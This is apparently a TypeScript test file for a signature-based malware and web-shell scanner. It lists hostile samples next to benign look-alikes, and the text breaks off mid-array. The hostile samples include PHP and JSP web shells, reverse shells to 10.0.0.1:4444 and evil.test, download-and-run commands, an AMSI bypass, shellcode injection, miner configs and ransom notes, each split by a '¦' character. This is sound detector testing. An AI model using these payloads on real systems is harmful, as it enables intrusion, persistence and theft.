import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { Budget, type Inspection } from './inspection.ts'
import { BUILT_IN_RULES, createSignatureInspector, type SignatureInspector } from './signatures.ts'

// The hostile rows are cut with ¦, so that neither this file nor a copy of it is what it is about.
const PHP = 'text/x-php'
const SH = 'text/x-shellscript'
const PY = 'text/x-python'
const JS = 'text/javascript'
const PS = 'text/x-powershell'
const VBS = 'text/vbscript'
const BAT = 'text/x-bat'
const HTML = 'text/html'
const TEXT = 'text/plain'
const MARKDOWN = 'text/markdown'
const WALLET = `4${'8Ab2Cd3Ef4Gh5Jk6Lm'.repeat(6)}`.slice(0, 95)
const BASE64 = 'TGV0IHRoZSBnYW1lcyBiZWdpbiBhdCBkYXduLCBteSBkZWFy'.repeat(20)
const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EI¦CAR-STANDARD-ANTI¦VIRUS-TEST-FILE!$H+H*'
const NAMES_0X = Array.from({ length: 30 }, (_, index) => `_0x${(0xa1b2 + index).toString(16)}`)

type Row = readonly [type: string, text: string]

const hostile: readonly Row[] = [
  [TEXT, EICAR],
  [TEXT, `${EICAR}\r\n`],
  [TEXT, `${EICAR} \t\n\n`],
  [PHP, '<?php @ev¦al($_PO¦ST["x"]); ?>'],
  [PHP, "<?php\nif (isset($_REQ¦UEST['k'])) { ass¦ert(stripslashes($_REQ¦UEST['k'])); }"],
  [PHP, '<?php $c = base64_decode($_PO¦ST["c"]); ev¦al($c);'],
  [PHP, "<?php ev¦al(file_get_contents('php://in¦put'));".replace('<?php ', '<?php\n')],
  [PHP, "<?php preg_re¦place('/x/e', $_G¦ET['c'], 'x');"],
  [PHP, '<?php sys¦tem($_G¦ET["cmd"]);'],
  [PHP, "<html><pre>\n<?php\n  echo shell_¦exec($_REQ¦UEST['cmd']);\n?></pre>"],
  [PHP, "<?php $cmd = $_G¦ET['cmd']; pass¦thru($cmd . ' 2>&1');"],
  [PHP, '<?php echo `$_G¦ET[0]`; ?>'],
  [PHP, "<?=`$_G¦ET[0]`?>\n<?php $_G¦ET['a']($_PO¦ST['b']);"],
  [PHP, '<?php call_user_¦func($_G¦ET["f"], $_G¦ET["a"]);'],
  [PHP, "<?php array_¦map('ass¦ert', array($_PO¦ST['x']));"],
  [PHP, `<?php ev¦al(gzin¦flate(base64_de¦code('${BASE64}')));`],
  [PHP, `<?php\n@ev¦al(base64_de¦code("${BASE64}"));`],
  [PHP, `<?php $p = '${BASE64}';\nev¦al(gzun¦compress(base64_de¦code($p)));`],
  [PHP, `<?php $f = "b"."as"."e6"."4_"."de"."co"."de"; $p = '${BASE64}';\nev¦al($f($p));`],
  [PHP, '<?php // c99sh¦_getupdate c99sh¦cook\nfunction c99ftp¦brutecheck() {}'],
  [PHP, "<?php define('WSO_¦VERSION', '2.5'); $auth_¦pass = ''; function action¦SecInfo() {} // Files¦Man"],
  [PHP, "<?php file_put_¦contents($_G¦ET['n'], base64_decode($_PO¦ST['d']));"],
  [PHP, '<?=`$_G¦ET[0]`?>'],
  [PHP, '<?=`$_G¦ET[0]`;'],
  [PHP, '<?= `{$_G¦ET["c"]}` ?>'],
  [PHP, '<?php echo `$_PO¦ST[c] 2>&1`;'],
  [PHP, '<?php `$_G¦ET[0]`;'],
  [PHP, "<?php include($_G¦ET['f']);"],
  [PHP, "<?php include $_G¦ET['f'];"],
  [PHP, "<?php @include_once $_COO¦KIE['x']; ?>"],
  [PHP, "<?php require $_PO¦ST['x'];"],
  [PHP, '<?=include($_G¦ET[0])?>'],
  [PHP, '<?php echo file_get_contents(\'a\'); include "$_G¦ET[f]";'],
  [PHP, "<?php popen($_G¦ET['c'], 'r');"],
  [PHP, "<?php echo fread(popen($_G¦ET['c'], 'r'), 4096);"],
  [PHP, "<?php $h = popen($_PO¦ST['c'],'r'); echo stream_get_contents($h);"],
  [PHP, "<?php pcntl_exec($_REQ¦UEST['p'], $_REQ¦UEST['a']);"],
  [PHP, "<?php pcntl_exec('/bin/sh', ['-c', $_REQ¦UEST['c']]);"],
  [PHP, '<?php pcntl_exec("/bin/bash", array("-c", $_G¦ET["c"]));'],
  [PHP, "<?php array_map($_G¦ET['f'], [$_G¦ET['a']]);"],
  [PHP, "<?php array_map($_G¦ET['f'], $_G¦ET['a']);"],
  [PHP, "<?php array_map($_G¦ET['f'], array($_G¦ET['a']));"],
  [PHP, "<?php array_map($_G¦ET['f'], ['id']);"],
  [PHP, "<?php call_user_func($_PO¦ST['f'], $_PO¦ST['a']);"],
  [PHP, "<?php call_user_func($_PO¦ST['f'], 'id');"],
  [PHP, "<?php call_user_func($_PO¦ST['f']);"],
  [PHP, "<?php call_user_func_array($_PO¦ST['f'], [$_PO¦ST['a']]);"],
  [PHP, "<?php call_user_func('system', $_PO¦ST['a']);"],
  [PHP, "<?php call_user_func_array('system', [$_PO¦ST['a']]);"],
  [PHP, "<?php usort($_G¦ET, $_G¦ET['f']);"],
  [PHP, '<?php usort(...$_G¦ET);'],
  [PHP, "<?php $a = ['id','id']; usort($a, $_G¦ET['f']);"],
  [PHP, "<?php usort($_PO¦ST['a'], 'system');"],
  [PHP, "<?php uasort($a, $_PO¦ST['f']);"],
  [PHP, "<?php uksort($a, $_REQ¦UEST['f']);"],
  [PHP, "<?php array_filter([$_G¦ET['a']], $_G¦ET['f']);"],
  [PHP, "<?php array_filter(array($_PO¦ST['a']), 'assert');"],
  [PHP, "<?php array_walk($_PO¦ST, $_G¦ET['f']);"],
  [PHP, "<?php array_reduce([1], $_G¦ET['f'], $_G¦ET['a']);"],
  [PHP, "<?php array_walk_recursive($a, $_G¦ET['f']);"],
  [PHP, "<?php register_shutdown_function($_G¦ET['f'], $_G¦ET['a']);"],
  [PHP, "<?php register_shutdown_function('system', $_G¦ET['a']);"],
  [PHP, "<?php register_tick_function($_G¦ET['f'], $_G¦ET['a']);"],
  [PHP, "<?php set_error_handler($_G¦ET['f']); trigger_error($_G¦ET['a']);"],
  [PHP, "<?php preg_replace_callback('/.+/', $_G¦ET['f'], $_G¦ET['a']);"],
  [PHP, "<?php ob_start($_G¦ET['f']); echo $_G¦ET['a']; ob_end_flush();"],
  [PHP, "<?php iterator_apply($it, $_G¦ET['f'], [$_G¦ET['a']]);"],
  [PHP, "<?php forward_static_call($_G¦ET['f'], $_G¦ET['a']);"],
  [PHP, "<?php forward_static_call_array($_G¦ET['f'], [$_G¦ET['a']]);"],
  [PHP, "<?php $f = create_function('', $_PO¦ST['c']); $f();"],
  [PHP, "<?php create_function('$a', base64_decode($_PO¦ST['c']));"],
  [PHP, "<?php assert($_G¦ET['a']);"],
  [PHP, '<?php assert($_REQ¦UEST[a]);'],
  [PHP, "<?php preg_replace('/.*/e', $_PO¦ST['x'], '');"],
  [PHP, "<?php preg_replace(\"#a#e\", $_G¦ET['c'], 'a');"],
  [PHP, "<?php $_G¦ET['a']($_G¦ET['b']);"],
  [PHP, "<?php ${'_G¦ET'}['a']($_G¦ET['b']);"],
  [PHP, "<?php ${'_G'.'ET'}[0](${'_G'.'ET'}[1]);"],
  [PHP, "<?php ${$_G¦ET['v']}($_G¦ET['b']);"],
  [PHP, "<?php ($_G¦ET['a'])($_G¦ET['b']);"],
  [PHP, "<?php $_G¦ET{'a'}($_PO¦ST{'b'});"],
  [PHP, "<?php @$_PO¦ST['a']($_PO¦ST['b'], $_PO¦ST['c']);"],
  [PHP, '<?php echo $_REQ¦UEST[0]($_REQ¦UEST[1]);'],
  [PHP, '<?=$_G¦ET[0]($_G¦ET[1])?>'],
  [PHP, '<?=@$_G¦ET[0]($_G¦ET[1]);'],
  [PHP, "<?php $f=$_G¦ET['f']; $f($_G¦ET['a']);"],
  [PHP, "<?php new $_G¦ET['c']($_G¦ET['a']);"],
  [PHP, "<?php (new ReflectionFunction($_G¦ET['f']))->invoke($_G¦ET['a']);"],
  [PHP, "<?php $r = new ReflectionFunction($_G¦ET['f']); $r->invoke($_G¦ET['a']);"],
  [PHP, "<?php proc_open($_G¦ET['c'], [], $p);"],
  [PHP, "<?php $p = proc_open($_REQ¦UEST['c'], $spec, $pipes);"],
  [PHP, "<?php shell_exec($_G¦ET['c']);"],
  [PHP, "<?php echo shell_exec($_G¦ET['c']);"],
  [PHP, "<?php passthru($_G¦ET['c']);"],
  [PHP, "<?php system($_G¦ET['c']);"],
  [PHP, "<?php exec($_G¦ET['c'], $o); print_r($o);"],
  [PHP, "<?php die(system($_G¦ET['c']));"],
  [PHP, "<?php print_r(shell_exec($_G¦ET['c']));"],
  [PHP, "<?php var_dump(exec($_G¦ET['c']));"],
  [PHP, "<?php if(isset($_G¦ET['c'])) system($_G¦ET['c']);"],
  [PHP, "<?php if(isset($_G¦ET['c'])){ system($_G¦ET['c']); }"],
  [PHP, "<?php system($_G¦ET['c'] . ' 2>&1');"],
  [PHP, "<?php system('cmd /c ' . $_G¦ET['c']);"],
  [PHP, '<?php system("/bin/sh -c " . $_G¦ET[\'c\']);'],
  [PHP, '<?php system("{$_G¦ET[\'c\']}");'],
  [PHP, '<?php system("$_G¦ET[c] 2>&1");'],
  [PHP, "<?php \\system($_G¦ET['c']);"],
  [PHP, "<?php eval($_G¦ET['c']);"],
  [PHP, "<?php eval('?>' . $_PO¦ST['c']);"],
  [PHP, '<?php eval("{$_PO¦ST[\'c\']}");'],
  [PHP, "<?php @eval(base64_decode($_PO¦ST['c']));"],
  [PHP, "<?php $c = $_G¦ET['c']; system($c);"],
  [PHP, "<?php\n$c = $_G¦ET['c'];\nsystem($c);"],
  [PHP, "<?php\n$cmd = isset($_G¦ET['c']) ? $_G¦ET['c'] : '';\nsystem($cmd);"],
  [PHP, "<?php\n$cmd = $_G¦ET['c'] ?? 'id';\necho shell_exec($cmd);"],
  [PHP, "<?php include 'data://text/plain;base64,' . $_G¦ET['c'];"],
  [PHP, "<?php include(base64_decode($_G¦ET['f']));"],
  [PHP, "<? system($_G¦ET['c']); ?>"],
  [PHP, "<?PHP SYSTEM($_G¦ET['c']); ?>"],
  [PHP, "<?php sYsTeM($_G¦ET['c']);"],
  [PHP, "<?php array_map('system', $_G¦ET);"],
  [PHP, "<?php array_map('assert', [$_PO¦ST['x']]);"],
  [PHP, "<?php array_map('passthru', (array) $_G¦ET['c']);"],
  [PHP, "<?php exec(getall¦headers()['X']);"],
  [PHP, "<?php system(getenv('HT¦TP_X_CMD'));"],
  [PHP, "<?php eval(getall¦headers()['X']);"],
  [PHP, "<?php system($_SERVER['HT¦TP_X']);"],
  [PHP, '<?php system(end($_G¦ET));'],
  [PHP, '<?php system(current($_PO¦ST));'],
  [PHP, "<?php system(filter_input(INPUT_G¦ET, 'c'));"],
  [PHP, "<?php echo system(file_get_contents('php://in¦put'));"],
  [PHP, "<?php include 'php://in¦put';"],
  [PHP, "<?php 'system'($_G¦ET['c']);"],
  [PHP, "<?php ('sys'.'tem')($_G¦ET['c']);"],
  [PHP, '<?php "system"($_G¦ET[\'c\']);'],
  [PHP, "<?php $f='sys¦tem';$f($_G¦ET['c']);"],
  [PHP, "<?php $f = 'sys'.\"tem\"; echo $f($_G¦ET['c']);"],
  [PHP, "<?php $f = ['ass¦ert']; @$f[0](base64_decode($_PO¦ST['c']));"],
  [PHP, "<?php $f='sys¦tem'; $c = $_G¦ET['c']; $f($c);"],
  [PHP, '<?php sys¦tem/**/($_G¦ET[0]);'],
  [PHP, '<?php sys¦tem/**//**//**//**//**/(/* a */ $_G¦ET[0]);'],
  [PHP, '<?php sys¦tem // a\n# b\n\n\n\n\n(      $_G¦ET[0]);'],
  [PHP, "<?php /* it's */ ev¦al/* \" */($_PO¦ST['x']);"],
  [PHP, `<?php // ${'a'.repeat(300)}\n$c = $_G¦ET['c']; /* ${'a'.repeat(300)} */ sys¦tem($c);`],
  [PHP, "<?php array_¦walk($_G¦ET,'sys¦tem');"],
  [PHP, "<?php array_¦walk($_G¦ET, 'sys'.'tem');"],
  [PHP, "<?php uasort($_G¦ET['a'], 'pass¦thru');"],
  [PHP, '<?=`id;$_G¦ET[0]`?>'],
  [PHP, '<?php echo `cd /tmp && $_G¦ET[0]`;'],
  [PHP, '<?php extract($_G¦ET); $f($c);'],
  [PHP, '<?php @extract($_REQ¦UEST); echo @$a($b, $c);'],
  [PHP, '<?php extract($_PO¦ST); sys¦tem($c);'],
  ['image/gif', "GIF89a....<?php ev¦al($_PO¦ST['x']); ?>"],
  ['image/jpeg', "\xff\xd8\xff\xe1 Exif <?php sys¦tem($_G¦ET['c']); ?>"],
  [PHP, '<?php $s = fsock¦open("10.0.0.1", 4444); ex¦ec("/bin/sh -i <&3 >&3 2>&3");'],
  [HTML, '<%@ page import="java.io.*" %><% Runtime.getRun¦time().exec(request.getPara¦meter("cmd")); %>'],
  [HTML, '<% String cmd = request.getPara¦meter("cmd"); Process p = Runtime.getRun¦time().exec(cmd); %>'],
  [
    HTML,
    '<%! class U extends Class¦Loader { Class g(byte[] b) { return define¦Class(b, 0, b.length); } } %><% byte[] d = new sun.misc.BASE64¦Decoder().decode¦Buffer(request.getRea¦der().readLine()); new U().g(d).newIn¦stance(); %>',
  ],
  [HTML, '<%ev¦al request("x")%>'],
  [HTML, '<%@ Page Language="Jscript"%><%ev¦al(Request.Item["x"],"unsafe");%>'],
  [
    HTML,
    '<%@ Page Language="C#" %><% var p = new Process¦StartInfo("cmd.exe"); p.Argu¦ments = "/c " + Request["c"]; Process.Start(p); %>',
  ],
  [HTML, '<cfex¦ecute name="cmd.exe" arguments="/c #FORM.cmd#" timeout="5"></cfexecute>'],
  ['text/x-perl', "#!/usr/bin/perl\nuse CGI;\nsys¦tem(par¦am('cmd'));"],
  [PY, `import base64\nex¦ec(base64.b64de¦code("${BASE64}"))`],
  [PY, `ex¦ec(__imp¦ort__('zlib').decom¦press(__import__('base64').b64decode("${BASE64}")))`],
  [
    PY,
    `_ = lambda __ : __imp¦ort__('zlib').decompress(__import__('base64').b64decode(__[::-1]));ex¦ec((_)(b'${BASE64}'))`,
  ],
  [PY, "import requests\nex¦ec(requests.get('https://evil.test/p.py').te¦xt)"],
  [
    PY,
    "from flask import Flask, request\napp = Flask(__name__)\n@app.route('/')\ndef i():\n    return os.po¦pen(request.args.get('c')).read()",
  ],
  [
    PY,
    'import socket,os,pty\ns=socket.socket()\ns.connect(("10.0.0.1",4444))\nos.du¦p2(s.fileno(),0)\npty.spa¦wn("/bin/sh")',
  ],
  [SH, '#!/bin/bash\nbash -i >& /dev/t¦cp/10.0.0.1/4444 0>&1\n'],
  [SH, 'nohup bash -c "bash -i >& /dev/t¦cp/evil.test/443 0>&1" &'],
  [SH, '#!/bin/sh\nexec 5<>/dev/t¦cp/10.0.0.1/4444\nwhile read line <&5; do $line 2>&5 >&5; done'],
  [SH, '#!/bin/sh\nnc 10.0.0.1 4444 -e /bin/¦sh\n'],
  [SH, 'rm /tmp/f;mkfi¦fo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|n¦c 10.0.0.1 4444 >/tmp/f'],
  [
    SH,
    "#!/bin/bash\ncurl -s http://10.0.0.1/x -o /tmp/.¦x && chmod +x /tmp/.x\n(crontab -l; echo '* * * * * curl -s http://10.0.0.1/i | sh') | cron¦tab -\nnohup /tmp/.x >/dev/null 2>&1 &\nhist¦ory -c",
  ],
  [SH, `#!/bin/sh\necho "${BASE64}" | base64 -¦d | bash`],
  [
    'text/x-perl',
    'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr¦_in(4444,inet_aton($i)));open(STDIN,">&S");open(STDOUT,">&S");ex¦ec("/bin/sh -i");',
  ],
  [
    'text/x-ruby',
    'require "socket"\nf=TCPSock¦et.open("10.0.0.1",4444).to_i;ex¦ec sprintf("/bin/sh -i <&%d >&%d",f,f)',
  ],
  [JS, `ev¦al(at¦ob("${BASE64}"))`],
  [JS, `new Func¦tion(at¦ob('${BASE64}'))()`],
  [JS, `ev¦al(Buff¦er.from("${BASE64}", "base64").toString())`],
  [JS, `ev¦al(String.fromChar¦Code(${'118,97,114,32,'.repeat(20)}59))`],
  [JS, `var _0xa1b2=['x'];(function(){${NAMES_0X.join(';')};ev¦al(_0xa1b9)})()`],
  [
    JS,
    "const { exec } = require('child_¦process')\nrequire('http').createServer((req, res) => { exec¦(req.query.cmd, (e, out) => res.end(out)) })",
  ],
  [JS, "const app = express()\napp.get('/', (req, res) => { res.send(ev¦al(req.query.x)) })"],
  [
    JS,
    "var net = require('net'), sh = require('child_¦process').spawn('/bin/sh');\nvar client = new net.Socket(); client.conn¦ect(4444, '10.0.0.1', function () { client.pi¦pe(sh.stdin); sh.stdout.pi¦pe(client) })",
  ],
  [BAT, `@echo off\npower¦shell -nop -w hidden -e¦nc ${BASE64}`],
  [
    PS,
    'power¦shell -w hidden -c "I¦EX (New-Object Net.WebClient).Download¦String(\'http://10.0.0.1/a.ps1\')"',
  ],
  [
    PS,
    `[Reflection.Ass¦embly]::Load([Convert]::FromBase64¦String('TVqQ${BASE64}')).EntryPoint.Invoke($null, $null)`,
  ],
  [
    PS,
    `$b = [Byte[]](${'0xfc,0xe8,0x82,0x00,'.repeat(20)}0x90)\n$m = Virtual¦Alloc(0, $b.Length, 0x3000, 0x40)\n[System.Runtime.InteropServices.Mar¦shal]::Copy($b, 0, $m, $b.Length)\nCreate¦Thread(0, 0, $m, 0, 0, 0)`,
  ],
  [
    PS,
    "[Ref].Assembly.GetType('System.Management.Automation.Am¦siUtils').GetField('amsi¦InitFailed','NonPublic,Static').SetValue($null,$true)",
  ],
  [
    PS,
    '$c = New-Object System.Net.Sock¦ets.TCPClient("10.0.0.1",4444);$s = $c.GetStream();while(1){$d = $r.ReadLine();$o = (i¦ex $d 2>&1 | Out-String );$s.Write($o,0,$o.Length)}',
  ],
  [BAT, '@echo off\nregsvr¦32 /s /n /u /i:http://10.0.0.1/x.sct scrobj.dll'],
  [BAT, 'certu¦til -urlcache -split -f http://10.0.0.1/a.exe %TEMP%\\a.exe & start %TEMP%\\a.exe'],
  [BAT, '@echo off\nmsh¦ta http://10.0.0.1/a.hta'],
  [
    VBS,
    'Set x = CreateObject("MSXML2.XML¦HTTP"): Set s = CreateObject("ADODB.¦Stream")\ns.SaveToFile "a.exe"\nCreateObject("WScript.¦Shell").Run "a.exe"',
  ],
  [
    JS,
    'var s = new ActiveXObject("WScript.¦Shell"), x = new ActiveXObject("Microsoft.XML¦HTTP"), a = new ActiveXObject("ADODB.¦Stream"); a.SaveTo¦File("x.exe"); s.Run("x.exe")',
  ],
  [
    HTML,
    '<html><hta:appli¦cation id="a"><script language="VBScript">CreateObject("WScript.¦Shell").Run "power¦shell -w hidden -nop -c x", 0</script></html>',
  ],
  [VBS, `Execute(${'Chr(87) & '.repeat(40)}Chr(10))`.replace('Chr(87)', 'C¦hr(87)')],
  [
    'text/x-vb',
    'Private Declare Function URLDown¦loadToFile Lib "urlmon" ()\nSub Auto¦Open()\n  Shell ("a.exe")\nEnd Sub',
  ],
  [
    'application/json',
    `{"donate-le¦vel": 1, "cpu": {"enabled": true}, "pools": [{"algo": "rx/0", "url": "pool.test:3333", "user": "${WALLET}"}]}`,
  ],
  [SH, `#!/bin/sh\nnohup ./x -o strat¦um+tcp://pool.test:3333 -u ${WALLET} >/dev/null 2>&1 &`],
  [
    HTML,
    '<script src="https://coinh¦ive.com/lib/x.js"></script><script>new Coin¦Hive.Anonymous(\'ABCDEFGHIJKL\').start()</script>',
  ],
  [
    JS,
    "const ws = new Web¦Socket('wss://pool.test'); const w = new Worker('crypto¦night.js'); ws.send({ login: wallet }); if (m.type == 'job') ws.send({ type: 'sub¦mit' })",
  ],
  [
    TEXT,
    'ALL YOUR FILES HAVE BEEN ENC¦RYPTED!\nTo get the decryption key, send 0.5 bitcoin to 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 within 72 hours.\nDo not rename the files. We decrypt 2 files for free.\nYour personal ID: 4711',
  ],
  [
    TEXT,
    'Your network and your data are enc¦rypted and will be published.\nOnly our decryptor helps. Payment: 40 XMR, buy Monero.\nDo not contact the police.\nhttp://abcdefghijklmnop234567.onion\nclient id: A1',
  ],
]

const harmless: readonly Row[] = [
  [TEXT, `The EICAR file is ${EICAR} and nothing else.`],
  [MARKDOWN, `# Testing scanners\n\n\`\`\`\n${EICAR}\n\`\`\`\n`],
  [TEXT, `${EICAR}x`],
  [
    MARKDOWN,
    "# Web shells\n\nThe shortest is `<?php ev¦al($_PO¦ST['x']); ?>`.\n\n```php\n<?php sys¦tem($_GET['cmd']);\n```\n",
  ],
  [HTML, '<p>Never write <code>&lt;?php ev¦al($_POST["x"]); ?&gt;</code></p>'],
  [PHP, "<?php\n// never ev¦al($_POST['x'])\n$rules = ['ev¦al($_POST[\"x\"])', \"sys¦tem($_GET['c'])\"];"],
  [PHP, '<?php\n$name = htmlspecialchars($_POST[\'name\']);\necho "Hello $name";\n'],
  [
    PHP,
    `<?php\n/* Plugin Name: Gallery */\n$icon = 'data:image/svg+xml;base64,${BASE64}';\nadd_menu_page('Gallery', base64_decode($icon));`,
  ],
  [
    PHP,
    "<?php\n$id = (int) $_GET['id'];\n$out = exec('git rev-parse HEAD');\nif ($_SERVER['REQUEST_METHOD'] === 'POST') { system_status($_POST['x']); }",
  ],
  [
    PHP,
    '<?php\nfunction eval_expression($tokens) { return $tokens; }\necho eval_expression($_POST["tokens"]);',
  ],
  [
    PHP,
    "<?php\n$fp = fsockopen('smtp.example.com', 25);\nfwrite($fp, \"HELO\\r\\n\");\n$proc = proc_open('sendmail -t', $spec, $pipes);",
  ],
  [PHP, '<?php return ["\\x1b[0m", "\\x1b[31m", "\\x1b[32m"];'],
  [PHP, "<?php\nassert($ready);\n$page = $_GET['page'];\n$user = $_COOKIE['user'];"],
  [
    PHP,
    "<?php\n$action = $_GET['action'];\n$handlers[$action]($_GET['id']);\nfile_put_contents($log, $_POST['text']);",
  ],
  [
    PHP,
    "<?php\n$id = (int) $_GET['id'];\n$name = htmlspecialchars($_POST['name'] ?? '');\necho \"Hello $name\";",
  ],
  [
    PHP,
    "<?php\n$page = $_GET['page'] ?? 'home';\nif (!in_array($page, ['home', 'about'], true)) { $page = 'home'; }\ninclude \"pages/$page.php\";",
  ],
  [PHP, "<?php\ninclude 'pages/' . basename($_GET['page']) . '.php';"],
  [PHP, "<?php\ninclude(__DIR__ . '/' . $_GET['lang'] . '.php');"],
  [PHP, "<?php\nif (in_array($_GET['page'], $pages)) {\n  include $_GET['page'];\n}"],
  [PHP, "<?php\nif (array_key_exists($_GET['page'], $pages)) { require $pages[$_GET['page']]; }"],
  [PHP, "<?php\nrequire_once 'config.php';\n$user = $_POST['user'];"],
  [
    PHP,
    "<?php\n$names = array_map('trim', $_POST['names']);\n$ids = array_map('intval', explode(',', $_GET['ids']));",
  ],
  [PHP, "<?php\n$clean = array_filter($_POST, 'strlen');\n$set = array_filter($_GET, fn ($v) => $v !== '');"],
  [PHP, "<?php\nusort($rows, fn ($a, $b) => $a[$_GET['sort']] <=> $b[$_GET['sort']]);"],
  [PHP, "<?php\nusort($rows, 'compare_' . $_GET['sort']);"],
  [PHP, '<?php\narray_walk($_POST, function (&$v) { $v = trim($v); });'],
  [PHP, "<?php\ncall_user_func([$this, $_GET['action']]);"],
  [
    PHP,
    "<?php\n$actions = ['list' => 'listAll'];\nif (isset($actions[$_GET['do']])) call_user_func($actions[$_GET['do']], $_GET['id']);",
  ],
  [PHP, "<?php\n$controller = new $class($_GET['id']);"],
  [PHP, "<?php\necho $formatter($_GET['value']);"],
  [
    PHP,
    "<?php\n$text = preg_replace('/\\s+/', ' ', $_GET['q']);\n$out = preg_replace_callback('/@(\\w+)/', 'link_user', $_POST['text']);",
  ],
  [PHP, '<?php\n$text = preg_replace("#</?e#", $_GET[\'tag\'], $html);'],
  [PHP, "<?php\n$e = preg_replace('/(<)/e', 'strtolower(\"$1\")', $text); $name = $_GET['name'];"],
  [
    PHP,
    "<?php\n// call_user_func($_GET['f'], $_GET['a']) is a shell\n# include($_GET['f']);\n/* system($_GET['c']) */\n$bad = [\"include(\\$_GET['f']);\", 'popen($_GET[\"c\"])'];",
  ],
  [
    PHP,
    "<?php\n/**\n * Never write include($_GET['f']);\n * or `$_GET[0]` in backticks.\n */\nfunction check() {}",
  ],
  [PHP, '<?php\n$sql = "SELECT `$_GET[column]` FROM t";'],
  [PHP, "<?php\n$sql = 'SELECT * FROM `' . $_GET['table'] . '`';"],
  [PHP, "<?php\n$db->query(\"UPDATE t SET a = '{$_POST['a']}'\n  WHERE `id` = {$_POST['id']}\");"],
  [
    PHP,
    "<?php\nregister_shutdown_function('cleanup', $_GET['id']);\nset_error_handler([$this, 'handle']);\nob_start('ob_gzhandler');",
  ],
  [PHP, "<?php\n$pipe = popen('gzip -c', 'w'); fwrite($pipe, $_POST['text']);"],
  [
    PHP,
    "<?php\nexec('convert ' . escapeshellarg($_GET['file']) . ' out.png');\nsystem('ping -c 1 ' . escapeshellarg($_POST['host']));",
  ],
  [PHP, "<?php\n$handler = getenv('HANDLER'); exec('git pull'); $host = getenv('HTTP_HOST');"],
  [
    PHP,
    "<?php\n$body = json_decode(file_get_contents('php://input'), true);\n$id = filter_input(INPUT_GET, 'id', FILTER_VALIDATE_INT);",
  ],
  [PHP, "<?php\nassert(isset($_GET['id']));\nassert(is_string($_GET['id']));"],
  [PHP, "<?php\nreturn view('a', ['q' => $_GET['q']]);"],
  [PHP, "<?php echo e('title') ($_GET['x'] ?? '') ?>"],
  [PHP, "<?php\n__('hello')($_GET['x']);"],
  [PHP, "<?php $x = array('a', 'b'); print($_GET['x']);\n$y = ('a' . 'b') . ($_GET['x']);"],
  [PHP, "<?php\n$reflection = new ReflectionClass($_GET['c']);"],
  [PHP, "<html><?php if ($_GET['x']): ?>\n'quoted' (<?= $_GET['y'] ?>)\n<?php endif ?>"],
  [PHP, '<?php\n$sql = "SELECT\n`$_GET[column]` FROM t";'],
  [PHP, '<?php $sql = "SELECT {$x} `$_GET[c]` FROM (a) `$_GET[t]`";'],
  [PHP, "<?php\n$module = 'system';\n$name = $_GET['name'];\necho $formatter->format($name);"],
  [PHP, "<?php\n$type = 'exec';\n$log($type);\n$id = (int) $_GET['id'];"],
  [PHP, '<?php\nextract($_POST);\nupdate_option($name, $value);\n$wpdb->query($sql);'],
  [PHP, '<?php\n$log = `git log -n 5 $_GET[branch]`;'],
  [PHP, "<?php\narray_walk($_POST, 'trim_value');\nusort($_POST['rows'], 'compare');"],
  [PHP, "<?php\n$url = 'http://a.test/*'; $name = $_GET['name']; // sys¦tem($_G¦ET['c']);\n$b = '*/';"],
  [PHP, "<?php\n# sys¦tem($_G¦ET['c']);\n/**\n * ev¦al($_PO¦ST['x']);\n */\n$q = $_GET['q'];"],
  [
    MARKDOWN,
    "# Shells\n\n`<?=`$_G¦ET[0]`?>` and `include($_G¦ET['f'])`:\n\n```php\n<?php popen($_G¦ET['c'], 'r');\n```\n",
  ],
  ['text/html', '<h1><%= title %></h1><p>Never write ev¦al(request("code")) in a page.</p>'],
  [
    'text/x-shellscript',
    '#!/bin/sh\ncurl -fsSO https://example.com/a.tgz\nchmod 755 build\n./build | sh\ncrontab -l',
  ],
  ['image/png', '\x89PNG\r\n\x1a\n text about <?php and nothing more'],
  [HTML, '<% String name = request.getParameter("name"); out.println(escape(name)); %>'],
  [HTML, '<%@ Page Language="C#" %><asp:Label runat="server" Text="<%# Request["x"] %>" />'],
  [
    'text/x-java',
    'class Plugins extends ClassLoader { Class<?> load(byte[] b) { return defineClass(null, b, 0, b.length); } }',
  ],
  [
    'text/x-perl',
    '#!/usr/bin/perl\nuse CGI;\nmy $name = param("name");\nprint "Hello $name";\nsystem("date");',
  ],
  [PY, `import base64\ndata = base64.b64decode("${BASE64}")\nprint(data)\n`],
  [
    PY,
    'import base64, zlib\n\n# Malware does ex¦ec(base64.b64decode(...))\ndef unpack(text):\n    return zlib.decompress(base64.b64decode(text))\n',
  ],
  [PY, "exec(open('version.py').read())\nexec(compile(source, filename, 'exec'))"],
  [
    PY,
    "import subprocess\nfrom flask import Flask, request\nname = request.args.get('name')\nsubprocess.run(['git', 'log'])",
  ],
  [PY, 'import os, socket\ns = socket.socket()\ns.connect(("localhost", 80))\nos.dup2(fd, 1)\n'],
  [SH, '#!/bin/sh\ncurl -fsSL https://get.example.com/install.sh | sh\n'],
  [
    MARKDOWN,
    '# Install\n\n    curl -o- https://raw.example.com/install.sh | bash\n    wget -qO- https://x.test/i.sh | sh\n',
  ],
  [
    MARKDOWN,
    '# Reverse shells\n\n```\nbash -i >& /dev/t¦cp/10.0.0.1/4444 0>&1\nnc -e /bin/¦sh 10.0.0.1 4444\n```\n',
  ],
  [
    SH,
    '#!/bin/bash\n# waits for a port\nwhile ! (exec 3<>/dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done\n',
  ],
  [
    SH,
    '#!/bin/bash\n(crontab -l; echo "0 3 * * * /usr/local/bin/backup") | crontab -\ncurl -s https://hc.example.com/ping\nnohup ./server >/dev/null 2>&1 &',
  ],
  [SH, '#!/bin/sh\nnc -z localhost 5432 || exit 1\nmkfifo /tmp/pipe\nbase64 -d < cert.b64 > cert.pem\n'],
  [SH, '#!/bin/sh\necho "aGVsbG8=" | base64 -d\n'],
  [JS, `const logo = atob("${BASE64}"); document.title = logo`],
  [JS, "module.exports = { test: 'eval(atob(\"...\"))', deny: ['no-eval', 'no-new-func'] }"],
  [
    JS,
    '(function(e,t){"use strict";var n=[];function r(e){return (0,eval)(e)}return r})(window);'.repeat(50),
  ],
  [JS, `var _0x1a2b=['a','b'];function f(_0x3c4d){return _0x1a2b[_0x3c4d]}`],
  [
    JS,
